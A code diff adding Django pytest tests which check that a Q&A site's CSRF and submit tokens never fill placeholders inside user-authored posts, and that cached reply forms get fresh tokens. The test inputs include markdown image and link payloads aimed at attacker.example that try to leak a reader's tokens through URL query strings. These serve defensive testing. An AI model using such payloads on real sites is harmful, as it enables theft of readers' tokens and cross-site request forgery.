@@ -9,7 +9,7 @@ from django.urls import reverse
 from rung.accounts.models import User
 from rung.qa import services
 from rung.qa.models import Answer, Question
-from rung.testing import make_answer, make_card, make_question
+from rung.testing import make_answer, make_card, make_member, make_question
 
 pytestmark = pytest.mark.django_db
 
@@ -128,3 +128,48 @@ def test_each_form_on_a_cached_page_gets_a_fresh_double_submit_token(
         tokens += re.findall(r'name="submit_token" value="([0-9a-f]{32})"', page)
     # Two reply forms and the answer form on each load, all different.
     assert len(tokens) == 6 and len(set(tokens)) == 6
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "![p](https://attacker.example/a.png?csrf=__rung_csrf_token__&f=__rung_form_token__)",
+        "[link](https://attacker.example/?t=__rung_csrf_token__) and `__rung_form_token__`",
+        "rung-slot-0123456789abcdef0123456789abcdef-csrf rung-slot-x-form",
+    ],
+)
+def test_reader_tokens_never_fill_text_an_author_typed(
+    question: Question, bob: User, charlie: User, typed: str
+) -> None:
+    """Only slots the templates own receive a reader's tokens; look-alikes in a post stay text."""
+    answer = make_answer(question, bob, body=typed)
+    reader = Client()
+    reader.force_login(charlie)
+    url = question.get_absolute_url()
+    for _attempt in range(2):  # a cold render, then the cached pieces
+        page = _html(reader, url)
+        # The forms carry the reader's own (masked) tokens, and the post none of them.
+        tokens = re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
+        assert tokens and all(re.fullmatch(r"[A-Za-z0-9]{64}", token) for token in tokens)
+        start = page.index(f'id="post-body-answer-{answer.pk}"')
+        body = page[start : page.index('<div class="post-actions">', start)]
+        assert not any(token in body for token in tokens)
+        for look_alike in ("__rung_csrf_token__", "__rung_form_token__", "rung-slot-"):
+            if look_alike in typed:
+                assert look_alike in body
+
+
+def test_each_form_in_a_cached_fragment_gets_its_own_submit_token(
+    question: Question, bob: User, charlie: User
+) -> None:
+    """Reply forms in a shared cached thread get fresh, distinct double-submit tokens."""
+    make_answer(question, bob, body="First answer")
+    make_answer(question, charlie, body="Second answer")
+    reader = Client()
+    reader.force_login(make_member("dana"))
+    first = _html(reader, question.get_absolute_url())
+    second = _html(reader, question.get_absolute_url())
+    tokens_first = re.findall(r'name="submit_token" value="([0-9a-f]{32})"', first)
+    tokens_second = re.findall(r'name="submit_token" value="([0-9a-f]{32})"', second)
+    assert len(tokens_first) >= 3
+    assert len(set(tokens_first + tokens_second)) == len(tokens_first) + len(tokens_second)
